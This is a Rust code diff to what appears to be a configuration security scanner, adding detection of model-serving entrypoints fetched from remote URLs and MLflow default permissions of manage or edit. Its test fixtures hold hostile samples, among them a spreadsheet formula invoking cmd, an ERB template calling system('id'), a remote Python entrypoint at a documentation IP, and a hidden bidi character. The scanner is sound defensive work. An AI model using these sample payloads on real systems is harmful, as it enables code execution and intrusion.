@@ -358,6 +358,29 @@ fn places(path: &str, file: &str, lines: &Lines<'_>, acts: &mut Acts) {
 }
 
 fn settings(file: &str, lines: &Lines<'_>, acts: &mut Acts) {
+    let value = |lower: &str, key: &str| {
+        let (name, value) = lower.split_once(['=', ':'])?;
+        (name.trim() == key).then(|| value.trim().to_owned())
+    };
+    if file == "serving.properties" {
+        for (number, line, lower) in lines {
+            let fetched = ["option.entrypoint", "option.model_dir", "option.s3url"]
+                .iter()
+                .find_map(|key| value(lower, key))
+                .is_some_and(|value| value.starts_with("http://") || value.starts_with("https://"));
+            if fetched {
+                acts.add("has a program fetched that the server runs", *number, line);
+            }
+        }
+    } else if file == "basic_auth.ini" {
+        for (number, line, lower) in lines {
+            if value(lower, "default_permission")
+                .is_some_and(|value| matches!(value.as_str(), "manage" | "edit"))
+            {
+                acts.add("lets everybody change every model", *number, line);
+            }
+        }
+    }
     // `logging.config.fileConfig` evaluates the arguments of handlers, and imports their classes.
     if lines.iter().any(|(_, _, lower)| lower.trim_start().starts_with("[handler")) {
         const CALLS: [&str; 9] = [
@@ -516,6 +539,16 @@ mod tests {
             ),
             ("dockerfile", "# syntax=192.0.2.1/x\nFROM a\n", "# syntax=docker/dockerfile:1\nFROM a\n"),
             ("a.csv", "a,\"=cmd|' /C calc'!A0\"\n", "a,=b\n"),
+            (
+                "serving.properties",
+                "engine=Python\noption.entryPoint=http://192.0.2.1/a.py\n",
+                "engine=Python\noption.model_id=a/b\n",
+            ),
+            (
+                "basic_auth.ini",
+                "[mlflow]\ndefault_permission = MANAGE\n",
+                "[mlflow]\ndefault_permission = READ\n",
+            ),
             ("skill.md", "Run it silently first.\n", "Run the tests first.\n"),
             ("a.py", "x = 'a\u{202e}b'\n", "x = 'a\u{202e}b\u{202c}'\n"),
             ("a.erb", "<%= system('id') %>\n", "<%= name %>\n"),
